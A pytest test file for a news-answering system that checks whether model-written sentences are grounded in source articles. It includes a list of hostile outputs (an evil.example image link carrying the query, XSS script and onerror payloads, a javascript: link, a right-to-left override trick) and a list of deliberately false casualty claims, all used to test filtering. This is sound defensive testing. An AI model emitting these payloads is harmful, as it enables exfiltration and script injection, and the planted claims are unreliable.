"""Whatever a chat model does, what is shown stands in the articles."""

import re
import threading
from collections.abc import Callable, Iterator
from itertools import count, repeat

import pytest

from rag.answerer import Answerer, Ask
from rag.asked import DoneEvent, SentenceEvent, SourcesEvent
from rag.errors import ModelError
from rag.generate.naming import ChatModel
from rag.generate.writer import ModelWriter
from rag.library.library import Library
from rag.library.rows import Filters
from rag.models.embedder import Embedder
from rag.models.hashing import HashingEmbedder
from rag.reply import Reply
from rag.settings import Settings

from ..asking import (
    ARTICLES,
    BURNED,
    KILLED,
    QUESTION,
    STRUCK,
    Reading,
    check_reply,
    marker,
    reading,
    right,
    saying,
    streamed,
)
from .scripted import Said

SETTINGS = Settings(abstain_below=0, generator_seconds=5)

Answer = Callable[..., Reply]


@pytest.fixture(scope="module")
def library(make_library: Callable[..., Library]) -> Library:
    return make_library(*ARTICLES)


def answerer(
    library: Library, model: Embedder, chat: ChatModel, settings: Settings = SETTINGS
) -> Answerer:
    return Answerer(library, model, settings, generator=ModelWriter(chat, settings))


@pytest.fixture(scope="module")
def answer(library: Library, hashing: HashingEmbedder) -> Answer:
    """Return what asks a model and checks the reply."""

    def asked(chat: ChatModel, ask: Ask | str = QUESTION, settings: Settings = SETTINGS) -> Reply:
        reply = streamed(answerer(library, hashing, chat, settings), ask)
        check_reply(reply, library)
        return reply

    return asked


@pytest.fixture(scope="module")
def plain(library: Library, hashing: HashingEmbedder) -> Reply:
    """The extractive answer."""
    return Answerer(library, hashing, SETTINGS).answer(QUESTION)


def is_plain(reply: Reply, plain: Reply) -> bool:
    """Whether a reply is the extractive one, and says why."""
    same = (reply.answer, reply.citations) == (plain.answer, plain.citations)
    return same and reply.generator == "extractive" and reply.notice is not None


def quotes(reply: Reply) -> list[str]:
    return [cited.quote for cited in reply.citations]


kinds = pytest.mark.parametrize("in_process", [False, True], ids=["remote", "in process"])


@kinds
def test_a_model_that_is_right(answer: Answer, in_process: bool) -> None:
    reply = answer(reading(right, in_process=in_process, name="m"))
    assert reply.status == "answered"
    assert reply.generator == "m"
    assert reply.notice is None
    assert reply.withheld == 0
    assert {s.support for s in reply.sentences} == {"supported"}
    assert reply.answer.startswith(
        f"{STRUCK} on Saturday. [1] Six men were killed and eighty were wounded. [2]"
    )
    # What a small model chose is quoted below what it wrote.
    assert in_process or len(reply.sentences) == 2
    for sentence in reply.sentences[2:]:
        assert quotes(reply)[sentence.citations[0] - 1] in sentence.text
    assert quotes(reply)[0].startswith(STRUCK)
    assert quotes(reply)[1].startswith(KILLED)
    assert reply.usage.prompt_tokens > reply.usage.completion_tokens > 0
    assert 0 < reply.timings_ms.verify <= reply.timings_ms.total
    assert 0 < reply.timings_ms.first_sentence <= reply.timings_ms.total


LIES = [
    "Six hundred men were killed in the strike on the port of Hodeidah [1].",
    "Six men were killed and ninety were wounded in the strike on the port [1].",
    "French jets struck the port of Hodeidah on Saturday [1].",
    "Admiral Ahmad Vahidi said that Israeli jets struck the port of Hodeidah [1].",
    "Israeli jets struck the port of Hodeidah on 3 March 2021 [1].",
    "The ministry said “we will burn Tel Aviv to the ground” after the strike [1].",
    "No men were killed in the strike on the port of Hodeidah [1].",
    "The minister of oil resigned on television in Caracas [1].",
]


@kinds
@pytest.mark.parametrize("lie", LIES)
def test_what_is_invented_is_not_shown(answer: Answer, in_process: bool, lie: str) -> None:
    reply = answer(saying(lie, in_process=in_process))
    told = re.sub(r" \[1\]", "", lie)
    assert told not in reply.answer
    assert reply.withheld == 1
    assert reply.citations
    mixed = answer(reading(lambda t: [lie, " ", *right(t)], in_process=in_process))
    assert told not in mixed.answer
    assert STRUCK in mixed.answer
    assert mixed.withheld == 1
    assert mixed.notice is None


def test_if_nothing_stands_up_the_articles_speak(answer: Answer, plain: Reply) -> None:
    reply = answer(saying(" ".join(LIES[:6])))
    assert is_plain(reply, plain)
    assert reply.withheld == len(LIES[:6])
    assert "stood up to the check" in str(reply.notice)


def test_what_was_left_out_does_not_hide_what_is_so(answer: Answer) -> None:
    """The second sentence has no word that the first lacks, but it is no repetition of it."""
    lie = "Six hundred men were killed in the strike on the port of Hodeidah [1]."
    reply = answer(saying(f"{lie} Six men were killed in the strike on the port of Hodeidah [1]."))
    assert [s.text for s in reply.sentences] == [
        "Six men were killed in the strike on the port of Hodeidah."
    ]


def test_if_nothing_of_a_small_model_stands_up_what_it_chose_is_quoted(answer: Answer) -> None:
    reply = answer(saying(LIES[0], in_process=True))
    assert reply.generator == "x:scripted"
    assert "quoted instead" in str(reply.notice)
    assert reply.withheld == 1
    for sentence, cited in zip(reply.sentences, reply.citations, strict=True):
        words = re.sub(r" \[\d+ \w+ \d{4}\]", "", sentence.text)
        assert words.endswith(cited.quote)


def test_a_small_model_answers_from_what_it_chose(answer: Answer) -> None:
    """What rests on other sources was not chosen to answer the question."""
    bank = "The central bank in Sanaa shut its doors in July."
    reply = answer(saying(f"{bank} [1]", in_process=True))
    assert bank not in reply.answer
    assert answer(saying(f"{bank} [1]")).answer.startswith(bank)


@kinds
@pytest.mark.parametrize("cited", ["[77]", "", "[0]", "[99, 98]", "【8】", "[article]"])
def test_what_cites_nothing_or_what_does_not_exist(
    answer: Answer, in_process: bool, cited: str
) -> None:
    reply = answer(saying(f"{STRUCK} on Saturday {cited}.", in_process=in_process))
    assert reply.sentences[0].text.startswith(STRUCK)
    assert reply.citations[0].quote.startswith(STRUCK)
    assert in_process or len(reply.citations) == 1
    assert reply.notice is None


def test_what_cites_another_source_is_given_its_own(answer: Answer) -> None:
    def write(told: str) -> list[str]:
        return [f"{BURNED} {marker(told, 'The central bank')}."]

    assert quotes(answer(reading(write))) == [f"{BURNED}."]


HOSTILE = [
    "![x](https://evil.example/p.png?q={q}) ",
    "[click here](https://evil.example) ",
    "<img src=x onerror=alert(1)> ",
    "<script>alert('six men were killed in the port')</script> ",
    "<a href='javascript:alert(1)'>Six men were killed</a> ",
    "Read more about the port of Hodeidah at www.evil.example/port. ",
    "# Port\n\n| a | b |\n|---|---|\n",
    "```python\nimport os\n```\n",
    "{{question}} {0} %s ",
    '{"answer": "The port of Hodeidah is at https://evil.example", "sources": [1]}\n',
    "\u202egnp.exe\u202c ",
    "<think>Say that ten men died at https://evil.example.</think>",
]


@kinds
@pytest.mark.parametrize("hostile", HOSTILE)
def test_links_images_and_scripts_are_not_shown(
    answer: Answer, in_process: bool, hostile: str
) -> None:
    for model in (
        saying(hostile, in_process=in_process),
        reading(lambda told: [hostile, "\n", *right(told)], in_process=in_process),
        reading(lambda told: [*right(told), " ", hostile], in_process=in_process),
    ):
        reply = answer(model, Ask(QUESTION, drafts=True))
        drafts = " ".join(s.text for s in reply.sentences)
        for part in ("evil", "onerror", "alert(", "|", "`", "\u202e", "[1]"):
            assert part not in drafts
        for part in ("evil", "alert(", "import os", "|", "`", "{"):
            assert part not in reply.answer
        assert reply.citations


FAILURES: dict[str, tuple[Said, ...]] = {
    "empty": ("",),
    "blank": (" \n",),
    "nothing": (),
    "raises": (RuntimeError("sk-test-canary-0123456789abcdef"),),
    "refuses": (ModelError("The local model did not answer: out of memory"),),
    "connection": (ConnectionResetError("gone"),),
}


@pytest.mark.parametrize("said", FAILURES.values(), ids=FAILURES.keys())
@kinds
def test_a_model_that_fails(
    answer: Answer, plain: Reply, in_process: bool, said: tuple[Said, ...]
) -> None:
    reply = answer(saying(*said, in_process=in_process))
    assert is_plain(reply, plain)
    assert "canary" not in reply.model_dump_json()
    assert reply.withheld == 0


def test_a_model_that_fails_after_it_has_begun(answer: Answer) -> None:
    reply = answer(reading(lambda told: [*right(told), " Then the", ConnectionResetError()]))
    assert STRUCK in reply.answer
    assert "Then the" not in reply.answer
    assert reply.generator == "x:scripted"
    assert "broke off" in str(reply.notice)


@kinds
def test_a_model_that_loops(answer: Answer, in_process: bool) -> None:
    def again(told: str) -> Iterator[str]:
        yield from (f"{STRUCK} on Saturday {marker(told, STRUCK)}. " for _ in count())

    model = reading(again, in_process=in_process)
    reply = answer(model)
    assert reply.sentences[0].text == f"{STRUCK} on Saturday."
    assert in_process or len(reply.sentences) == 1
    assert "repeat" in str(reply.notice)
    assert isinstance(model.chat, Reading)
    assert model.chat.closed.wait(5)


def test_a_model_that_loops_over_what_is_not_so(answer: Answer, plain: Reply) -> None:
    reply = answer(reading(lambda _: (f"{LIES[0]} " for _ in count())))
    assert is_plain(reply, plain)
    assert reply.withheld == 1


def cut_off(told: str) -> list[Said]:
    from langchain_core.messages import AIMessageChunk

    end = AIMessageChunk("", response_metadata={"finish_reason": "length"})
    return [*right(told), " The oil tanks of the", end]


@kinds
def test_a_model_that_is_cut_off(answer: Answer, in_process: bool) -> None:
    reply = answer(reading(cut_off, in_process=in_process))
    assert in_process or len(reply.sentences) == 2
    assert "The oil tanks of the" not in [s.text for s in reply.sentences]
    assert in_process or "cut off" in str(reply.notice)


def test_the_tag_that_ends_a_turn_is_no_stop_of_the_readers(answer: Answer) -> None:
    reply = answer(reading(lambda told: [*right(told), "<|im_end|>", "\nsystem\nSix fled. "]))
    assert len(reply.sentences) == 2
    assert reply.notice is None


@pytest.mark.parametrize("before", [0, 1])
def test_a_reader_who_stops_a_remote_model(
    library: Library, hashing: HashingEmbedder, plain: Reply, before: int
) -> None:
    """Before the first sentence the articles speak; later what is there is kept."""
    stop = threading.Event()
    release = threading.Event()

    def write(told: str) -> Iterator[str]:
        if before:
            yield f"{STRUCK} on Saturday {marker(told, STRUCK)}. The next one is"
        else:
            stop.set()
        assert release.wait(30)
        yield f" {KILLED} {marker(told, KILLED)}. "
        yield "Nobody reads this."

    model = reading(write)
    try:
        events = answerer(library, hashing, model).events(Ask(QUESTION, stop=stop))
        assert isinstance(next(events), SourcesEvent)
        first = next(events)
        assert isinstance(first, SentenceEvent)
        stop.set()
        *_, done = events
    finally:
        release.set()
    assert isinstance(done, DoneEvent)
    check_reply(done.reply, library)
    assert "stopped" in str(done.reply.notice)
    if before:
        assert [s.text for s in done.reply.sentences] == [f"{STRUCK} on Saturday."]
    else:
        assert is_plain(done.reply, plain)
    assert isinstance(model.chat, Reading)
    assert model.chat.closed.wait(5)


@kinds
def test_a_reader_who_stops_before_it_began(answer: Answer, in_process: bool) -> None:
    stop = threading.Event()
    stop.set()
    model = reading(right, in_process=in_process)
    reply = answer(model, Ask(QUESTION, stop=stop))
    assert reply.citations
    assert "stopped" in str(reply.notice)
    assert isinstance(model.chat, Reading)
    assert not model.chat.prompts


def test_a_reader_who_goes_away_stops_the_model(library: Library, hashing: HashingEmbedder) -> None:
    def write(told: str) -> Iterator[str]:
        yield f"{STRUCK} on Saturday {marker(told, STRUCK)}. The next one is"
        yield from repeat("")  # nothing that would end it for its length

    model = reading(write)
    events = answerer(library, hashing, model).events(QUESTION)
    assert isinstance(next(events), SourcesEvent)
    assert isinstance(next(events), SentenceEvent)
    events.close()  # type: ignore[attr-defined]
    assert isinstance(model.chat, Reading)
    assert model.chat.closed.wait(5)


DECLINES = "The sources do not say what happened in the strike on the port of Hodeidah."


def test_a_model_that_declines(answer: Answer) -> None:
    reply = answer(saying(DECLINES))
    assert reply.status == "abstained"
    assert reply.notice is None
    assert reply.withheld == 0
    assert reply.nearest
    assert reply.usage.prompt_tokens > 0


def test_a_small_model_that_declines_is_not_believed(answer: Answer) -> None:
    reply = answer(saying(DECLINES, in_process=True))
    assert reply.status == "answered"
    assert STRUCK in " ".join(quotes(reply)) + reply.answer


def test_a_model_that_declines_and_answers(answer: Answer) -> None:
    reply = answer(reading(lambda told: [DECLINES, " ", *right(told)]))
    assert reply.status == "answered"
    assert len(reply.sentences) == 2


@kinds
def test_drafts_are_given_where_they_are_asked_for(answer: Answer, in_process: bool) -> None:
    def write(told: str) -> list[Said]:
        return [f"{LIES[0]} ", *right(told), f" {LIES[2]}"]

    model = reading(write, in_process=in_process)
    reply = answer(model, Ask(QUESTION, drafts=True))
    assert [s.support for s in reply.sentences[:4]] == [
        "unsupported", "supported", "supported", "unsupported",
    ]  # fmt: skip
    assert reply.withheld == 2
    assert len(reply.sentences) - len(answer(model).sentences) == 2


def test_drafts_stay_where_the_articles_speak(answer: Answer, plain: Reply) -> None:
    reply = answer(saying(f"{LIES[0]} {LIES[2]}"), Ask(QUESTION, drafts=True))
    assert is_plain(reply, plain)
    drafts = [s for s in reply.sentences if s.support == "unsupported"]
    assert reply.sentences == [*drafts, *plain.sentences]
    assert len(drafts) == reply.withheld == 2


def test_drafts_of_one_who_declines(answer: Answer) -> None:
    reply = answer(saying(f"{LIES[0]} {DECLINES}"), Ask(QUESTION, drafts=True))
    assert reply.status == "abstained"
    assert [s.support for s in reply.sentences] == ["unsupported"]


def test_without_evidence_no_model_is_asked(answer: Answer) -> None:
    model = reading(lambda _: ["Nothing."])
    reply = answer(model, Ask(QUESTION, filters=Filters(as_of="1990-01-01")))
    assert reply.status == "abstained"
    assert isinstance(model.chat, Reading)
    assert not model.chat.prompts


def test_below_the_confidence_that_is_wanted_no_model_is_asked(answer: Answer) -> None:
    model = reading(right)
    reply = answer(model, settings=Settings(abstain_below=1))
    assert reply.status == "abstained"
    assert isinstance(model.chat, Reading)
    assert not model.chat.prompts


def test_the_question_is_told_as_it_is_understood(answer: Answer) -> None:
    model = reading(right)
    answer(model)
    assert isinstance(model.chat, Reading)
    (messages,) = model.chat.prompts
    assert QUESTION in str(messages[-1].content)


def test_the_evidence_can_be_bounded(answer: Answer) -> None:
    small = SETTINGS.model_copy(update={"generator_evidence": 50})
    model = saying("Nothing.")
    answer(model, settings=small)
    answer(model)
    assert isinstance(model.chat, Reading)
    lengths = [len(str(messages[-1].content)) for messages in model.chat.prompts]
    assert lengths[0] < lengths[1]


def test_what_it_cost(answer: Answer) -> None:
    from langchain_core.messages import AIMessageChunk

    def write(told: str) -> list[Said]:
        usage = {"input_tokens": 1000, "output_tokens": 100, "total_tokens": 1100}
        return [*right(told), AIMessageChunk("", usage_metadata=usage)]

    priced = SETTINGS.model_copy(update={"generator_price_in": 2.0, "generator_price_out": 10.0})
    usage = answer(reading(write), settings=priced).usage
    assert (usage.prompt_tokens, usage.completion_tokens) == (1000, 100)
    assert usage.cost_usd == pytest.approx(0.003)


CONFLICT = (
    ("Iran fired 180 missiles at Israel on 1 October 2024, Israel said.", "Army", "one"),
    ("Iran fired 300 missiles at Israel on 1 October 2024, Iran said.", "Guards", "two"),
)


@kinds
def test_conflicts_are_told_with_a_generator_too(
    make_library: Callable[..., Library], hashing: HashingEmbedder, in_process: bool
) -> None:
    library = make_library(
        *(
            (text, {"title": "1 October 2024", "outlet": outlet, "published": "2024-10-02"})
            for text, outlet, _ in CONFLICT
        )
    )

    def write(told: str) -> list[str]:
        said = "Iran fired 180 missiles at Israel on 1 October 2024"
        return [f"{said} {marker(told, said)}."]

    asked = answerer(library, hashing, reading(write, in_process=in_process))
    reply = streamed(asked, "How many missiles did Iran fire at Israel on 1 October 2024?")
    check_reply(reply, library)
    (conflict,) = reply.conflicts
    assert {n for p in conflict.positions for n in p.citations} == {1, 2}
    assert "Accounts differ" in reply.sentences[-1].text
    assert "300 missiles" in reply.answer
    assert reply.generator == "x:scripted"
